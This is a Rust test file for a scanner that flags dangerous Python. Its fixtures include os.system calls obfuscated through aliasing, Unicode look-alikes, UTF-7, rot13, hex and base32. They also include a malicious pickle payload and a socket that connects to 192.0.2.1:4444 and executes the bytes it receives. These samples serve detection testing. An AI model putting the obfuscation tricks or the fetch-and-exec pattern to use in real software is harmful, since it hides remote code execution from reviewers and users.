//! What programs are followed through: values, functions, classes, encodings; each with a twin that
//! does the same and hurts nobody.

use super::*;

fn worst_of(text: &str) -> Option<Severity> {
    let report = named("handler.py", text.as_bytes());
    report.worst()
}

fn told(text: &str) {
    let worst = worst_of(text);
    assert!(worst >= Some(Severity::High), "{worst:?}: {text}");
}

fn not_told(text: &str) {
    let worst = worst_of(text);
    assert!(worst < Some(Severity::High), "{worst:?}: {text}");
}

#[test]
fn values_are_followed_through_names_lists_and_functions() {
    for (bad, good) in [
        (
            "import os\nrun = os.system\ngo = run\ngo('id')\n",
            "import os\nrun = os.getcwd\ngo = run\ngo()\n",
        ),
        (
            "import os\nf = {'a': os.system}\nf['a']('id')\n",
            "import os\nf = {'a': os.getcwd}\nf['a']()\n",
        ),
        (
            "import os\nf = [len, os.system]\nf[1]('id')\n",
            "import os\nf = [os.getcwd, len]\nf[1]('id')\n",
        ),
        (
            "import os\ndef name():\n    return 'sys' + 'tem'\ngetattr(os, name())('id')\n",
            "import os\ndef name():\n    return 'get' + 'cwd'\ngetattr(os, name())()\n",
        ),
        (
            "import os\ndef pick():\n    return os.system\npick()('id')\n",
            "import os\ndef pick():\n    return os.getcwd\npick()()\n",
        ),
        (
            "import os\ndef twice(f, x):\n    f(x)\ntwice(os.system, 'id')\n",
            "import os\ndef twice(f, x):\n    f(x)\ntwice(os.fspath, 'id')\n",
        ),
        (
            "import os\nclass A:\n    def __call__(self):\n        os.system('id')\nA()()\n",
            "import os\nclass A:\n    def __call__(self):\n        os.getcwd()\nA()()\n",
        ),
        (
            "import os\nclass A:\n    def __enter__(self):\n        os.system('id')\n    def __exit__(self, *a):\n        pass\nwith A():\n    pass\n",
            "import os\nclass A:\n    def __enter__(self):\n        os.getcwd()\n    def __exit__(self, *a):\n        pass\nwith A():\n    pass\n",
        ),
        (
            "import os\nclass A:\n    @property\n    def x(self):\n        os.system('id')\nA().x\n",
            "import os\nclass A:\n    @property\n    def x(self):\n        os.getcwd()\nA().x\n",
        ),
        (
            "@exec\n@eval\n@(lambda f: 'code')\ndef f():\n    pass\n",
            "import functools\n@functools.lru_cache\ndef f():\n    pass\n",
        ),
    ] {
        told(bad);
        not_told(good);
    }
}

#[test]
fn names_and_lines_are_those_that_python_reads() {
    told("import os\nos.ｓｙｓｔｅｍ('id')\n");
    told("𝓮𝔁𝓮𝓬(__import__('base64').b64decode('aW1wb3J0IG9z'))\n");
    told("import os\rx = 1\ros.system('id')\r");
    told("import os\r\nos.system('id')\r\n");
    not_told("π = 3\nx = 'ｓｙｓｔｅｍ'\rprint(x)\r");
}

#[test]
fn an_encoding_that_hides_is_told_and_not_clean() {
    let hidden = "# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system('id')\n";
    let report = named("handler.py", hidden.as_bytes());
    assert!(
        report
            .findings
            .iter()
            .any(|one| one.rule == "python/hidden-name")
    );
    assert!(!report.gaps.is_empty(), "{report:?}");
    let plain = "# -*- coding: utf-8 -*-\nx = 1\n";
    clean("handler.py", plain.as_bytes());
}

#[test]
fn bytes_that_objects_are_loaded_from_are_looked_at() {
    // The opcodes of protocol 0: a global, a mark, a text, a tuple, a call, the end.
    let bad = "cos\\nsystem\\n(S'id'\\ntR.";
    let good = "(lp0\\nI1\\na.";
    for (load, open) in [
        ("pickle.loads(b\"", "\")"),
        ("pickle.Unpickler(io.BytesIO(b\"", "\")).load()"),
        ("joblib.load(io.BytesIO(b\"", "\"))"),
    ] {
        let program = |bytes: &str| format!("import pickle, joblib, io\n{load}{bytes}{open}\n");
        told(&program(bad));
        not_told(&program(good));
    }
    // The same in base64.
    told("import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))\n");
    not_told("import pickle, base64\npickle.loads(base64.b64decode('KGxwMApJMQphLg=='))\n");
}

#[test]
fn decoders_are_worked_out() {
    for text in [
        // import os;os.system('id')
        "exec(__import__('codecs').decode('vzcbeg bf;bf.flfgrz(\\'vq\\')', 'rot13'))\n",
        "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827696427 29'.replace(' ', '')))\n",
        "import base64\nexec(base64.b32decode('NFWXA33SOQQG64Z3N5ZS443ZON2GK3JIE5UWIJZJ'))\n",
        "exec(''.join(chr(c) for c in [111, 112, 101, 110]) + \"('/etc/cron.d/x', 'w')\")\n",
    ] {
        told(text);
    }
    not_told("import base64\nLOGO = base64.b64decode('iVBORw0KGgo=')\n");
    not_told("print(''.join(chr(c) for c in [72, 105]))\n");
}

#[test]
fn what_is_fetched_by_a_socket_and_run() {
    told(
        "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nexec(s.recv(65536))\n",
    );
    not_told("import socket\ndef get():\n    s = socket.socket()\n    return s.recv(10)\n");
}
